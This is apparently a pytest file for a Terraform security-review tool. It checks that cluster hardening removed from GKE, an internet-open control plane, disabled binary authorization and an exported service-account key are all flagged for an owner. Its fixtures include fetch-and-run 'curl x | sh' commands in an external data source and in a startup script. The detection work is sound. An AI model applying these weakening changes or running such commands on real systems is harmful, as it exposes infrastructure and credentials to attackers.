"""Issue 36: a Terraform change the review does not know to be harmless is listed for a code owner.

Each attempt edits infra/meridian_infra the way a pull request would, on the shared sandbox: it used to be an
attribute diff in the Terraform section, exit 0 and no label, because the security class read only firewall
rules and IAM.
"""

from __future__ import annotations

import copy
import re
from typing import Any

import pytest

from review.report import COMMENT_LIMIT, summary
from review.review import Review
from review.security import Finding, security_findings
from review.security.default_deny import KNOWN_HARMLESS, unknown_changes
from tests.review.conftest import Sandbox
from tests.review.test_attempts import change_files

CLUSTER = "infra/meridian_infra/cluster.py"
Obj = dict[str, Any]
REGIONS = ("europe-west1", "us-central1", "us-east4")  # as the comment names them


def flagged(r: Review, what: str) -> set[str]:
    """The stacks where `what` is a security finding."""
    return {f.scope for f in r.findings if f.what == what}


@pytest.mark.scenario
def test_hardening_taken_off_the_clusters_is_listed_for_an_owner(sandbox: Sandbox) -> None:
    r = change_files(
        sandbox,
        [
            # Pods read the node's service account from the Compute Engine metadata server.
            (
                CLUSTER,
                'ContainerNodePoolNodeConfigWorkloadMetadataConfig(mode="GKE_METADATA")',
                'ContainerNodePoolNodeConfigWorkloadMetadataConfig(mode="GCE_METADATA")',
            ),
            # The control plane's public endpoint open to the whole internet.
            (
                CLUSTER,
                "    ContainerClusterMasterAuthorizedNetworksConfig,\n",
                "    ContainerClusterMasterAuthorizedNetworksConfig,\n    ContainerClusterMasterAuthorizedNetworksConfigCidrBlocks,\n",
            ),
            (
                CLUSTER,
                "ContainerClusterMasterAuthorizedNetworksConfig(\n            gcp_public_cidrs_access_enabled=False\n        )",
                "ContainerClusterMasterAuthorizedNetworksConfig(\n            gcp_public_cidrs_access_enabled=True,\n"
                '            cidr_blocks=[ContainerClusterMasterAuthorizedNetworksConfigCidrBlocks(cidr_block="0.0.0.0/0")],\n'
                "        )",
            ),
            (
                CLUSTER,
                "        enable_shielded_nodes=True,\n",
                "        enable_shielded_nodes=True,\n        enable_legacy_abac=True,\n",
            ),
            (CLUSTER, "deletion_protection=True,", "deletion_protection=False,"),
            (CLUSTER, 'evaluation_mode="PROJECT_SINGLETON_POLICY_ENFORCE"', 'evaluation_mode="DISABLED"'),
            # Committed checkpoints expire with the staged ones, after staged_retention_days (7).
            (
                "infra/meridian_infra/region_stack.py",
                "matches_prefix=[names.team_prefix(t.name) + names.STAGED_PREFIX for t in fleet.teams],",
                "matches_prefix=[names.team_prefix(t.name) for t in fleet.teams],",
            ),
        ],
    )
    cluster = "google_container_cluster.cluster"
    for pool in ("system", "h200-a"):
        assert flagged(
            r,
            f"google_container_node_pool.pool_{pool} node_config.workload_metadata_config.mode: GKE_METADATA -> GCE_METADATA",
        ) == set(REGIONS)
    for what in (
        f'{cluster} master_authorized_networks_config.cidr_blocks: (none) -> {{"cidr_block": "0.0.0.0/0"}}',
        f"{cluster} master_authorized_networks_config.gcp_public_cidrs_access_enabled: false -> true",
        f"{cluster} enable_legacy_abac: (none) -> true",
        f"{cluster} deletion_protection: true -> false",
        f"{cluster} binary_authorization.evaluation_mode: PROJECT_SINGLETON_POLICY_ENFORCE -> DISABLED",
        "google_storage_bucket.checkpoints lifecycle_rule.0.condition.matches_prefix: teams/pretraining/staged/, "
        "teams/research/staged/, teams/evals/staged/ -> teams/pretraining/, teams/research/, teams/evals/",
    ):
        assert flagged(r, what) == set(REGIONS), what
        # The same change in every region is one line in the comment, naming them.
        assert f"- {', '.join(REGIONS)}: {what}" in summary(r)
    assert (r.exit_code, r.labels) == (4, ["security"])


@pytest.mark.scenario
def test_an_open_binary_authorization_policy_and_an_exported_key_are_listed(sandbox: Sandbox) -> None:
    code = "infra/meridian_infra/global_stack.py"
    r = change_files(
        sandbox,
        [
            (code, 'evaluation_mode="ALWAYS_DENY"', 'evaluation_mode="ALWAYS_ALLOW"'),
            (
                code,
                "from cdktn_provider_google.service_account_iam_member import",
                "from cdktn_provider_google.service_account_key import ServiceAccountKey\n"
                "from cdktn_provider_google.service_account_iam_member import",
            ),
            (
                code,
                '        outputs["warden_role"] = warden_role.id\n',
                '        outputs["warden_role"] = warden_role.id\n'
                '        key = ServiceAccountKey(self, "warden_key", service_account_id=accounts["warden"].name)\n'
                '        TerraformOutput(self, "warden_private_key", value=key.private_key, sensitive=True)\n',
            ),
        ],
    )
    assert sorted((f.scope, f.what) for f in r.findings) == [
        (
            "global",
            "google_binary_authorization_policy.binary_authorization default_admission_rule.evaluation_mode: "
            "ALWAYS_DENY -> ALWAYS_ALLOW",
        ),
        (
            "global",
            "new google_service_account_key.warden_key: service_account_id=${google_service_account.sa_warden.name}",
        ),
        (
            "global",
            "new output.warden_private_key: sensitive=true, value=${google_service_account_key.warden_key.private_key}",
        ),
    ]
    comment = summary(r)
    assert len(comment) < COMMENT_LIMIT
    assert (
        "- global: new output.warden_private_key: sensitive=true, value=${google_service_account_key.warden_key.private_key}"
        in comment
    )
    assert (r.exit_code, r.labels) == (4, ["security"])


# --- The rules, on hand-made and shipped stacks ---------------------------------------------------


def _pool(**more: Any) -> Obj:
    return {
        "name": "h200-a",
        "node_count": 384,
        "node_config": {"workload_metadata_config": {"mode": "GKE_METADATA"}, "labels": {"meridian.dev/pool": "a"}},
        **more,
    }


def _stack(**resources: Obj) -> Obj:
    """One element per resource type, each named `x`."""
    return {"resource": {kind: {"x": body} for kind, body in resources.items()}}


def test_the_shipped_stacks_compared_with_themselves_say_nothing(stacks: dict[str, Any]) -> None:
    assert [line for body in stacks.values() for line in unknown_changes(body, copy.deepcopy(body))] == []


def test_what_another_part_of_the_review_reports_is_not_repeated() -> None:
    pool = "google_container_node_pool"
    # Growth is capacity's (a loss is destructive), a version an owner's approval (versions.py).
    assert unknown_changes(_stack(**{pool: _pool()}), _stack(**{pool: _pool(node_count=448, version="1.36")})) == []
    # Google Cloud labels and descriptions authorize nothing; Kubernetes node labels are selected on.
    cluster = {"resource_labels": {"region": "a"}, "description": "a"}
    assert (
        unknown_changes(
            _stack(google_container_cluster=cluster),
            _stack(google_container_cluster={"resource_labels": {"region": "b"}, "description": "b"}),
        )
        == []
    )
    relabelled = _pool(node_config={"workload_metadata_config": {"mode": "GKE_METADATA"}, "labels": {}})
    assert unknown_changes(_stack(**{pool: _pool()}), _stack(**{pool: relabelled})) == [
        f"{pool}.x node_config.labels.meridian.dev/pool: a -> (none)"
    ]
    # Firewall rules and IAM are read as grants by stacks.py: said once, there.
    rule = {"name": "r", "allow": [{"protocol": "tcp"}], "source_ranges": ["10.0.0.0/8"], "priority": 1000}
    wider = rule | {"source_ranges": ["0.0.0.0/0"]}
    before, after = _stack(google_compute_firewall=rule), _stack(google_compute_firewall=wider)
    assert [f.what for f in security_findings({}, {}, {"a": before}, {"a": after})] == [
        "firewall rule r now allows tcp (any port) from 0.0.0.0/0 (anywhere) (was: allows tcp (any port) from 10.0.0.0/8)"
    ]
    # What the grant does not read is listed: a deny rule that yields to more rules.
    assert unknown_changes(before, _stack(google_compute_firewall=rule | {"priority": 65000})) == [
        "google_compute_firewall.x priority: 1000 -> 65000"
    ]
    member = {"project": "p", "role": "roles/viewer", "member": "group:a@example.com"}
    assert unknown_changes({}, _stack(google_project_iam_member=member)) == []


def test_a_node_pool_that_leaves_a_network_is_harmless_one_that_joins_one_is_not() -> None:
    pool = "google_container_node_pool"
    gvnic, rdma = {"network": "gvnic", "subnetwork": "g"}, {"network": "rdma", "subnetwork": "r"}

    def nics(*configs: Obj) -> Obj:
        return _stack(**{pool: {"network_config": {"additional_node_network_configs": list(configs)}}})

    assert unknown_changes(nics(gvnic, rdma), nics(gvnic)) == []
    assert unknown_changes(nics(gvnic), nics(gvnic, rdma)) == [
        f'{pool}.x network_config.additional_node_network_configs: (none) -> {{"network": "rdma", "subnetwork": "r"}}'
    ]


def test_new_and_removed_elements_are_listed_with_their_attributes() -> None:
    base: dict[str, Any] = {
        "resource": {
            "google_service_account": {"sa": {"account_id": "warden"}},
            "google_storage_bucket": {"b": {"name": "ckpt"}},
            "google_binary_authorization_policy": {"p": {"global_policy_evaluation_mode": "ENABLE"}},
        },
        "output": {"sa": {"value": "${google_service_account.sa.email}"}},
    }
    head = copy.deepcopy(base)
    head["resource"]["google_service_account"]["team"] = {"account_id": "team"}  # an identity with no grant
    head["output"]["team"] = {"value": "${google_service_account.team.email}"}  # its name
    head["data"] = {"external": {"run": {"program": ["sh", "-c", "curl x | sh"]}}}
    head["output"]["sa"] = {"value": "${google_service_account.team.email}"}  # read as another account
    del head["resource"]["google_storage_bucket"]  # destructive: terraform.py says so
    del head["resource"]["google_binary_authorization_policy"]
    assert unknown_changes(base, head) == [
        "output.sa value: ${google_service_account.sa.email} -> ${google_service_account.team.email}",
        "new data.external.run: program.0=sh, program.1=-c, program.2=curl x | sh",
        "google_binary_authorization_policy.p removed (was: global_policy_evaluation_mode=ENABLE)",
    ]
    assert unknown_changes(head, base) == [
        "new google_storage_bucket.b: name=ckpt",
        "new google_binary_authorization_policy.p: global_policy_evaluation_mode=ENABLE",
        "output.sa value: ${google_service_account.team.email} -> ${google_service_account.sa.email}",
        "google_service_account.team removed (was: account_id=team)",
        "data.external.run removed (was: program.0=sh, program.1=-c, program.2=curl x | sh)",
    ]


def test_lists_compare_by_their_items_and_each_element_stays_short() -> None:
    bucket = "google_storage_bucket"
    rule = {"condition": {"age": 7, "matches_prefix": ["teams/a/staged/", "teams/b/staged/"]}}
    inserted = {"condition": {"age": 7, "matches_prefix": ["teams/0/staged/", "teams/a/staged/", "teams/b/staged/"]}}
    assert unknown_changes(
        _stack(**{bucket: {"lifecycle_rule": [rule]}}), _stack(**{bucket: {"lifecycle_rule": [inserted]}})
    ) == [f"{bucket}.x lifecycle_rule.0.condition.matches_prefix: (none) -> teams/0/staged/"]
    # Reordered plain values are the same set.
    reordered = {"condition": {"age": 7, "matches_prefix": ["teams/b/staged/", "teams/a/staged/"]}}
    assert (
        unknown_changes(
            _stack(**{bucket: {"lifecycle_rule": [rule]}}), _stack(**{bucket: {"lifecycle_rule": [reordered]}})
        )
        == []
    )
    many = {f"flag_{n:02d}": True for n in range(30)}
    lines = unknown_changes(_stack(**{bucket: {}}), _stack(**{bucket: many}))
    assert len(lines) == 10
    assert lines[-1] == f"{bucket}.x: 21 more changes"
    long = "x" * 500
    (line,) = unknown_changes(_stack(**{bucket: {"name": "a"}}), _stack(**{bucket: {"name": long}}))
    assert len(line) < 120


def test_hostile_stacks_end_in_lines_not_crashes() -> None:
    odd: Any
    for odd in (
        None,
        [],
        "text",
        {"resource": []},
        {"resource": {"t": []}},
        {"output": "x"},
        {"resource": {"t": {"n": 3}}},
    ):
        unknown_changes(odd, {"resource": {"t": {"n": {"a": 1}}}})
        unknown_changes({"resource": {"t": {"n": {"a": 1}}}}, odd)
    assert unknown_changes({"resource": {"t": {"n": {"a": [1]}}}}, {"resource": {"t": {"n": {"a": {"b": 1}}}}}) == [
        't.n a: 1 -> {"b": 1}'
    ]
    script = {"metadata": {"startup-script": "#!/bin/sh\ncurl x | sh\n"}}
    assert unknown_changes(_stack(google_container_node_pool={}), _stack(google_container_node_pool=script)) == [
        "google_container_node_pool.x metadata.startup-script: (none) -> #!/bin/sh curl x | sh"
    ]


def test_every_known_harmless_change_says_why() -> None:
    for known in KNOWN_HARMLESS:
        assert known.why, known
        re.compile(known.kinds)
        assert known.paths or known.on, known


def test_a_new_stack_is_one_line_in_the_comment() -> None:
    findings = [Finding("asia-south1", f"new thing {n}") for n in range(30)] + [Finding("us-east4", "x: a -> b")]
    r = Review("b", "h", [], [], [], [], findings=findings, new_scopes={"asia-south1"})
    assert r.security == [
        "us-east4: x: a -> b",
        "asia-south1: new, with 30 security findings of its own (each in the full report)",
    ]
